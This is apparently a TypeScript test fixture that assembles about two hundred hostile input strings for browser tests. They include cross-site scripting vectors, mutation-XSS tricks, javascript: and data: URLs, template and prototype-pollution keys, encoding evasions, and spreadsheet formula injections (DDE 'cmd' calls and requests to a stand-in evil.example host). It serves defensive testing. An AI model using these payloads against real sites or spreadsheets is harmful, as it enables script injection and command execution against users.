/** What an attacker calls when his text runs; the browser tests listen for it. */
const RUN = 'alert(1)'

/** Ends what the text may stand in. */
const BREAKERS = ['', '">', "'>", '</script>', '</title></textarea></style>', '-->', ']]>', '`}}', '\\";']

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=data:text/javascript,${RUN}></sCrIpT>`,
  `<script/xmlns=x>${RUN}//`,
  `<img src=x onerror=${RUN}>`,
  `<img/src='x'/onerror='${RUN}'/>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><body onload=${RUN}>`,
  `<math><a xlink:href=javascript:${RUN}>x</a></math>`,
  `<body onload=${RUN}>`,
  `<iframe src=javascript:${RUN}></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=javascript:${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<p style=animation-name:x onanimationstart=${RUN}>`,
  `<style>@import'javascript:${RUN}';</style>`,
  `<link rel=stylesheet href=data:text/css,*{color:red}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.example/>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button formaction=javascript:${RUN} autofocus>x</button>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<dialog open oncancel=${RUN}>`,
  `<xss id=x tabindex=1 onfocusin=${RUN}></xss>`,
  `<template><img src=x onerror=${RUN}></template>`,
  // What is harmless when it is read once and runs when it is written and read again.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
]

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% print(1) %}`,
  `[[${RUN}]]`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `<!--head--><script>${RUN}</script>`,
  "$&$`$'$1",
  `__proto__`,
  `constructor`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `//evil.example/x.js`,
  `/\\evil.example`,
  `https://evil.example\\@haat.local`,
  `[x](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
]

const ODD_LETTERS = [
  `＜script＞${RUN}＜/script＞`,
  `<ſcript>${RUN}</ſcript>`,
  `\ufeff<script>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img src=x one\u200brror=${RUN}>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `\u202e>tpircs<${RUN}`,
  `\u2028${RUN}\u2029`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\ud83d<script>${RUN}</script>`,
]

/** What a spreadsheet program runs. */
export const FORMULAS = [
  '=1+1',
  `=HYPERLINK("http://evil.example","x")`,
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=IMPORTXML("http://evil.example","//x")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
]

const broken = ELEMENTS.flatMap((element, at) =>
  [0, 3, 5, 7].map((step) => `${BREAKERS[(at + step) % BREAKERS.length]}${element}`),
)

/** Some two hundred texts that try to be more than text. */
export const hostileTexts: readonly string[] = [
  ...new Set([...broken, ...TEMPLATES, ...ADDRESSES, ...ODD_LETTERS, ...FORMULAS]),
]
